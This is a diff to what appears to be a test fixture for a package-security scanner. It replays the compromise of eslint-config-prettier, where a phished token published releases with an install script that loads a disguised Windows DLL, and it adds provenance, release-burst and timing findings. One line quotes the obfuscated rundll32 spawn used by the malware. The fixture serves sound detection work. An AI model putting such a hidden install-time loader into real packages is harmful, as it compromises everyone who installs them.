@@ -44,21 +44,36 @@ const inInstall = {
   line: "spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()",
 } as const
 
+const built = { repository: 'prettier/eslint-config-prettier', ref: 'refs/heads/main' }
+
 export const replay: Replay = replayUpgrade({
   description:
     'A phished maintainer token released packages of settings with an install script that loaded a Windows library lying beside it, ' +
-    'named after a build tool.',
+    'named after a build tool. Four releases on three lines took minutes, and none had the provenance of the last honest one.',
   date: '2025-07-18',
+  reviewedAt: '2025-07-19T08:00:00Z',
   name: 'eslint-config-prettier',
-  from: ['10.1.5', { files: { 'index.js': rules } }],
+  from: ['10.1.5', { files: { 'index.js': rules }, published: '2025-05-09T12:00:00Z', provenance: built }],
   to: [
     '10.1.6',
     {
       manifest: { scripts: { install: 'node install.js' } },
       files: { 'index.js': rules, 'install.js': install, 'node-gyp.dll': library },
+      published: '2025-07-18T15:00:00Z',
     },
   ],
+  beside: {
+    '8.10.0': { files: { 'index.js': rules }, published: '2023-08-03T12:00:00Z' },
+    '9.1.0': { files: { 'index.js': rules }, published: '2023-12-02T12:00:00Z' },
+    '8.10.1': { files: { 'index.js': rules }, published: '2025-07-18T15:04:00Z' },
+    '9.1.1': { files: { 'index.js': rules }, published: '2025-07-18T15:08:00Z' },
+    '10.1.7': { files: { 'index.js': rules }, published: '2025-07-18T15:12:00Z' },
+  },
   findings: [
+    ['combined-risk', 'critical'],
+    ['provenance-lost', 'high'],
+    ['release-burst', 'high'],
+    ['release-fresh', 'medium'],
     ['install-script-dangerous', 'critical', inInstall],
     ['capability-added', 'high', inInstall],
     ['install-script-added', 'high', { file: 'package.json' }],
